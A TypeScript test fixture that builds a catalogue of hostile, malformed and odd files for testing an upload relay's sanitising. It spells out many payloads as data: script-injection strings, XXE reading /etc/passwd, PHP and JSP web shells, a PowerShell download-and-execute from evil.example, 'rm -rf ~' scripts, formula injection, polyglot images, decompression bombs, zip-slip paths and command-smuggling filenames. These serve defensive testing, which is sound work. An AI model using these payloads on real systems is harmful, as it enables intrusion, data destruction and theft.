import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { bytesOf, chunk, gif, jpeg, png, SECRET, webp } from './pictures.ts';

/** What the relay makes of it. `picture` and `large`: of a form that we clean, drawable or not. */
export type Fate = 'picture' | 'large' | 'text' | 'document' | 'archive' | 'refused';
export type OddFile = [name: string, content: Uint8Array, fate: Fate];

const text = (written: string) => bytesOf(Buffer.from(written, 'utf8'));
const ftyp = (brand: string) => bytesOf([0, 0, 0, 24], `ftyp${brand}`, [0, 0, 0, 0], `${brand}mif1`);

/** A zip with one stored entry, as small as it can be. */
function zip(name: string, content = 'x'): Uint8Array {
  const le16 = (value: number) => [value & 255, value >> 8];
  const head = [...le16(20), 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, content.length, 0, 0, 0, content.length, 0, 0, 0];
  return bytesOf('PK\x03\x04', head, le16(name.length), le16(0), name, content, 'PK\x05\x06', new Uint8Array(18));
}

/** Texts that a browser would run or draw, were they served as what they say they are. */
const ACTIVE: [string, string][] = [
  ['page.html', '<!doctype html><script>alert(1)</script>'],
  ['page.htm', '<html><body onload=alert(1)>'],
  ['late.html', `${' '.repeat(2_000)}<script>alert(1)</script>`],
  ['page.xhtml', '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'],
  ['drawing.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
  ['script.svg', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
  ['entity.svg', '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'],
  ['laughs.xml', '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'],
  [
    'style.xsl',
    '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:script>1</xsl:script></xsl:stylesheet>',
  ],
  ['old.mht', 'MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>'],
  ['code.js', 'alert(document.cookie)'],
  ['code.mjs', 'export default fetch("https://evil.example")'],
  ['x.hta', '<hta:application><script>new ActiveXObject("WScript.Shell")</script>'],
  ['run.bat', '@echo off\r\ndel /q *.*\r\n'],
  ['run.sh', '#!/bin/sh\nrm -rf ~\n'],
  ['run.ps1', 'Invoke-Expression (New-Object Net.WebClient).DownloadString("https://evil.example")'],
  ['shell.php', '<?php system($_GET["x"]); ?>'],
  ['shell.jsp', '<% Runtime.getRuntime().exec("x"); %>'],
  ['.htaccess', 'AddType application/x-httpd-php .jpg'],
  ['link.url', '[InternetShortcut]\r\nURL=file://evil.example/share\r\n'],
  ['link.desktop', '[Desktop Entry]\nExec=sh -c "x"\n'],
  ['sum.csv', '=cmd|"/c calc"!A1,2\n@SUM(1),-1\n'],
  ['card.vcf', 'BEGIN:VCARD\nFN:<script>alert(1)</script>\nEND:VCARD\n'],
  ['mail.eml', 'Content-Type: text/html\n\n<img src=x onerror=alert(1)>'],
  ['feed.rss', '<rss><channel><title>&lt;script&gt;</title></channel></rss>'],
  ['worker.js', 'self.addEventListener("fetch", () => {})'],
  ['app.webmanifest', '{"start_url":"javascript:alert(1)"}'],
  ['policy.xml', '<cross-domain-policy><allow-access-from domain="*"/></cross-domain-policy>'],
  ['list.m3u8', '#EXTM3U\nfile:///etc/passwd\n'],
  ['picture.eps', '%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n'],
  ['picture.mvg', 'push graphic-context\nimage over 0,0 0,0 "https://evil.example/x"\npop graphic-context'],
];

/** Pictures that we cannot clean, and programs: they are said no to. */
const REFUSED: [string, Uint8Array][] = [
  ...['heic', 'heix', 'hevc', 'mif1', 'msf1', 'avif', 'avis'].map((brand): [string, Uint8Array] => [
    `photo.${brand}`,
    ftyp(brand),
  ]),
  ['photo.tif', bytesOf('II*\0', SECRET)],
  ['photo.tiff', bytesOf('MM\0*', SECRET)],
  ['raw.dng', bytesOf('II+\0', SECRET)],
  ['layers.psd', bytesOf('8BPS', [0, 1], SECRET)],
  ['photo.jxl', bytesOf([0xff, 0x0a], SECRET)],
  ['photo.jp2', bytesOf('\0\0\0\x0cjP  ', SECRET)],
  ['photo.j2c', bytesOf([0xff, 0x4f, 0xff, 0x51], SECRET)],
  ['setup.exe', bytesOf('MZ\x90\0\x03\0')],
  ['tool', bytesOf('\x7fELF\x02\x01\x01\0')],
  ['tool.macho', bytesOf([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1])],
  ['Main.class', bytesOf([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52])],
  ['module.wasm', bytesOf('\0asm', [1, 0, 0, 0])],
  ['film.swf', bytesOf('FWS', [9, 0, 0, 0, 0])],
  ['link.lnk', bytesOf([0x4c, 0, 0, 0, 1, 0x14, 2, 0])],
  ['music.mp3', bytesOf('ID3', [3, 0, 0, 0, 0, 0, 0])],
  ['film.mp4', bytesOf([0, 0, 0, 24], 'ftypmp42', [0, 0, 0, 0])],
  ['base.sqlite', bytesOf('SQLite format 3\0', [16, 0])],
  ['icon.ico', bytesOf([0, 0, 1, 0, 1, 0])],
  ['old.bmp', bytesOf('BM', [0, 0, 0, 0, 0, 0])],
  ['font.woff2', bytesOf('wOF2', [0, 1, 0, 0])],
  ['cut.png', png().subarray(0, 50)],
  ['head.png', png().subarray(0, 8)],
  ['wrong-sum.png', bytesOf([0x89], 'PNG\r\n\x1a\n', [0, 0, 0, 13], 'IHDR', new Uint8Array(9))],
  ['huge-chunk.png', bytesOf([0x89], 'PNG\r\n\x1a\n', [0x7f, 0xff, 0xff, 0xff], 'IHDR', new Uint8Array(20))],
  ['cut.jpg', jpeg().subarray(0, 40)],
  ['endless.jpg', bytesOf([0xff, 0xd8, 0xff, 0xe1, 0xff, 0xff], SECRET)],
  ['cut.gif', gif().subarray(0, 12)],
  ['cut.webp', webp().subarray(0, 18)],
  ['zeros.bin', new Uint8Array(4_000)],
];

/** Bombs, and what is two things at once: kept as the first, and never unpacked. */
const PICTURES: [string, Uint8Array, 'picture' | 'large'][] = [
  ['gifar.gif', gif('PK\x03\x04 a whole archive'), 'picture'],
  ['page.gif', gif('<script>alert(1)</script>'), 'picture'],
  ['page.jpg', jpeg({ tail: '<script>alert(1)</script>' }), 'picture'],
  ['php.jpg', jpeg({ tail: '<?php system("x") ?>' }), 'picture'],
  ['zip.jpg', jpeg({ tail: 'PK\x03\x04' }), 'picture'],
  ['two.jpg', jpeg({ tail: Buffer.from(jpeg()).toString('latin1') }), 'picture'],
  ['pdf.png', png({ tail: '%PDF-1.7' }), 'picture'],
  ['exe.png', png({ tail: 'MZ\x90\0' }), 'picture'],
  ['gif.webp', webp('GIF89a'), 'picture'],
  ['svg.webp', webp('<svg onload=alert(1)>'), 'picture'],
  ['iccp-bomb.png', png({ more: [chunk('iCCP', gzipSync(Buffer.alloc(4_000_000)))] }), 'picture'],
  ['text-bomb.png', png({ more: [chunk('zTXt', bytesOf('x\0\0', deflateSync(Buffer.alloc(4_000_000))))] }), 'picture'],
  ['many-chunks.png', png({ more: Array.from({ length: 5_000 }, () => chunk('tEXt', bytesOf(SECRET))) }), 'picture'],
  ['idat-bomb.png', png({ more: [chunk('IDAT', deflateSync(Buffer.alloc(9_000_000)))] }), 'picture'],
  ['wide.png', png({ width: 30_000, height: 30_000, pixels: false }), 'large'],
  ['long.png', png({ width: 1, height: 60_000, pixels: false }), 'large'],
  ['none.png', png({ width: 0, height: 0, pixels: false }), 'large'],
  ['wide.jpg', jpeg({ width: 65_535, height: 65_535 }), 'large'],
  ['turned.jpg', jpeg({ turn: 8 }), 'picture'],
];

const DOCUMENTS: [string, Uint8Array, Fate][] = [
  ['js.pdf', text('%PDF-1.7 <</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>'), 'document'],
  ['page.pdf', text('%PDF-1.7\n<script>alert(1)</script>'), 'document'],
  ['launch.pdf', text('%PDF-1.4 <</S/Launch/F(cmd.exe)>>'), 'document'],
  ['macro.docm', zip('word/vbaProject.bin'), 'document'],
  ['sheet.xlsx', zip('[Content_Types].xml'), 'document'],
  ['book.epub', zip('mimetype', 'application/epub+zip'), 'document'],
  ['old.doc', bytesOf([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], new Uint8Array(64)), 'document'],
  ['object.rtf', text('{\\rtf1{\\object\\objocx{\\*\\objdata 01}}}'), 'document'],
  ['slip.zip', zip('../../etc/cron.d/x'), 'archive'],
  ['app.jar', zip('META-INF/MANIFEST.MF'), 'archive'],
  ['bomb.zip', bytesOf(zip('bomb'), deflateRawSync(Buffer.alloc(9_000_000))), 'archive'],
  ['bomb.gz', gzipSync(Buffer.alloc(9_000_000)), 'archive'],
  ['twice.gz', gzipSync(gzipSync(Buffer.alloc(9_000_000))), 'archive'],
  ['a.7z', bytesOf('7z\xbc\xaf\x27\x1c', [0, 4]), 'archive'],
  ['a.rar', bytesOf('Rar!\x1a\x07\x01\0'), 'archive'],
  ['a.xz', bytesOf('\xfd7zXZ\0'), 'archive'],
  ['a.bz2', bytesOf('BZh91AY&SY'), 'archive'],
  ['utf16.txt', bytesOf([0xff, 0xfe], '<\0s\0c\0r\0i\0p\0t\0>\0'), 'text'],
  ['utf7.txt', text('+ADw-script+AD4-alert(1)+ADw-/script+AD4-'), 'text'],
  ['not-a.png', text('just a text'), 'text'],
];

/** Names that would go somewhere, run as something, or hide what they are; what is in them is a picture. */
const NAMES = [
  '../../escape.png',
  '..\\..\\escape.png',
  '/etc/passwd',
  'C:\\Windows\\system32\\x.png',
  'a\u0000.php.png',
  'a.png\u0000.exe',
  'line\r\nSet-Cookie: x=1.png',
  '\u202egnp.exe',
  'a\u200b.e\u200bxe',
  'zero\u2060width\ufeff.png',
  'con.png',
  'NUL',
  'lpt1.jpg',
  '...',
  '   ',
  '-rf.png',
  '~root.png',
  '.bashrc',
  '<img src=x onerror=alert(1)>.png',
  '"><script>alert(1)</script>.png',
  '$(touch x).png',
  '`id`.png',
  'x.png;.php',
  'x.php%00.png',
  'x.PnG',
  'x.tar.gz.html',
  'x'.repeat(900),
  `${'é'.repeat(300)}.png`,
  `${'😀'.repeat(200)}.png`,
  'e\u0301'.repeat(300),
  'name.',
  'اسم\u202e.png',
];

/** P24: at least 120 kinds of files that are hostile, broken or odd; made here, since nobody would keep such files. */
export function oddFiles(): OddFile[] {
  return [
    ...ACTIVE.map(([name, written]): OddFile => [name, text(written), 'text']),
    ...REFUSED.map(([name, content]): OddFile => [name, content, 'refused']),
    ...PICTURES,
    ...DOCUMENTS,
    ...NAMES.map((name): OddFile => [name, png(), 'picture']),
  ];
}
